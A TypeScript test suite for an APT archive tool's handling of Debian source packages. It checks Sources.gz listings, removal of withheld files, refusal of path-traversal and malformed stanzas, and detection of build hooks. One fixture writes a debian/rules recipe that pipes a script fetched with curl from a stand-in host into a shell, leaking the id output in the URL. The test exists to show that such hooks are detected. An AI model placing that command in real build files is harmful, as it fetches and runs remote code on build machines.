// Source packages: what Sources promises, what is cut with a withheld file, and what the reader makes of each file.
import { gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseAptRequest } from '../../../src/ecosystems/apt/requests.ts'
import { debSourceReader } from '../../../src/ecosystems/apt/source-file.ts'
import { readStanzaTable } from '../../../src/ecosystems/apt/stanza-table.ts'
import { type AptArchive, openAptArchive } from '../../support/apt-archive.ts'
import { buildSource, type SourcePackage } from '../../support/apt-source.ts'
import { type AptUpstream, startAptUpstream } from '../../support/apt-upstream.ts'
import { readBytes } from '../../support/read-package.ts'

const SOURCES = 'dists/stable/main/source/Sources.gz'

describe('source packages', () => {
  let upstream: AptUpstream
  let archive: AptArchive
  let tool: SourcePackage

  beforeAll(async () => {
    upstream = await startAptUpstream()
    await upstream.publish({ name: 'tool', version: '1.0' })
    tool = await upstream.publishSource({ name: 'tool', version: '1.0' })
    await upstream.publishSource({ name: 'other', version: '2.0' })
    await upstream.release()
    archive = await openAptArchive(upstream, { sources: true })
  })

  afterAll(async () => {
    await archive.close()
    await upstream.close()
  })

  it('are promised file by file, each by its digest', async () => {
    const claims = await archive.claims(await archive.load())
    const ours = claims.filter(({ facts }) => facts['architecture'] === 'source')
    expect(ours).toHaveLength(4)
    expect(ours.find(({ path }) => path === tool.tarball)).toMatchObject({
      name: 'tool',
      version: '1.0',
      sizeBytes: tool.files.get(tool.tarball)?.length,
      url: `${upstream.url}/${tool.tarball}`,
    })
  })

  it('are gone as a whole when one of their files is withheld', async () => {
    const set = await archive.load()
    const sources = async (withheld?: string) => {
      const rendered = await archive.render(set, ({ path }) => (path === withheld ? 'bad' : undefined))
      const text = gunzipSync(await archive.bytes(rendered, SOURCES)).toString()
      return [...text.matchAll(/^Package: (\S+)/gm)].map(([, name]) => name)
    }
    expect(await sources()).toEqual(['tool', 'other'])
    expect(await sources(tool.tarball)).toEqual(['other'])
  })

  it('are neither listed nor served unless they are enabled', async () => {
    const without = await openAptArchive(upstream)
    const set = await without.load()
    expect(set.documents.map(({ name }) => name)).not.toContain('stable main/source/Sources.gz')
    expect((await without.claims(set)).map(({ path }) => path)).toEqual(['pool/main/t/tool/tool_1.0_all.deb'])
    const ask =
      (path: string, { settings } = without) =>
      () =>
        parseAptRequest('GET', `/${path}`, settings)
    expect(ask(tool.dsc)).toThrow(/no such path/)
    expect(ask(tool.dsc, archive)()).toMatchObject({ kind: 'artifact', path: tool.dsc })
    expect(ask('pool/main/t/tool/tool.exe', archive)).toThrow(/no such path/)
    await without.close()
  })

  it.each([
    ['a Directory that climbs', { Directory: 'pool/../../etc' }, 'leaves the archive'],
    ['a file that is no source', { 'Checksums-Sha256': `\n ${'a'.repeat(64)} 1 x.sh` }, 'is none'],
    ['a file in another folder', { 'Checksums-Sha256': `\n ${'a'.repeat(64)} 1 ../x.dsc` }, 'is none'],
    ['no SHA256', { 'Checksums-Sha256': undefined }, 'without'],
    ['a SHA256 that is none', { 'Checksums-Sha256': '\n abc 1 x.dsc' }, 'cannot be read'],
    ['a name that is a path', { Package: '../x' }, 'cannot be read'],
  ])('with %s are refused', (_, changes, why) => {
    const fields: Record<string, string | undefined> = {
      Package: 'tool',
      Version: '1.0',
      Directory: 'pool/main/t/tool',
      'Checksums-Sha256': `\n ${'a'.repeat(64)} 1 tool_1.0.dsc`,
      ...changes,
    }
    const lines = Object.entries(fields).flatMap(([name, value]) =>
      value === undefined ? [] : [`${name}: ${value}\n`],
    )
    expect(() => readStanzaTable(Buffer.from(lines.join('')), 'Sources', 'sources')).toThrow(why)
  })
})

describe('the source reader', () => {
  it('reads a description with and without its signature', async () => {
    const { files, dsc } = await buildSource({ name: 'tool', version: '1.0' })
    const text = files.get(dsc)?.toString() ?? ''
    const signed = `-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n${text}\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n`
    for (const body of [text, signed])
      expect((await readBytes(debSourceReader, 'tool_1.0.dsc', Buffer.from(body))).declared).toMatchObject({
        name: 'tool',
        version: '1.0',
      })
    await expect(readBytes(debSourceReader, 'tool_1.0.dsc', Buffer.from('no fields'))).rejects.toThrow()
  })

  it('shows the recipes of debian/rules as what a build runs', async () => {
    const recipe = '@curl -fsSL https://payload.upstream.test/$$(id).sh | sh'
    const { files, tarball } = await buildSource({ name: 'tool', version: '1.0', recipe })
    const contents = await readBytes(
      debSourceReader,
      'tool_1.0.tar.gz',
      files.get(tarball) ?? Buffer.alloc(0),
    )
    expect(contents.format).toBe('deb-source')
    expect(contents.hooks).toMatchObject([{ name: 'tool-1.0/debian/rules recipes', interpreter: 'shell' }])
    expect(contents.hooks[0]?.script).toContain('curl -fsSL https://payload.upstream.test/$(id).sh | sh')
    expect(contents.entries.map(({ path }) => path)).toContain('tool-1.0/README')
  })

  it('refuses a tarball that is cut off', async () => {
    const { files, tarball } = await buildSource({ name: 'tool', version: '1.0' })
    const bytes = files.get(tarball) ?? Buffer.alloc(0)
    await expect(readBytes(debSourceReader, 'tool_1.0.tar.gz', bytes.subarray(0, -20))).rejects.toThrow()
  })
})
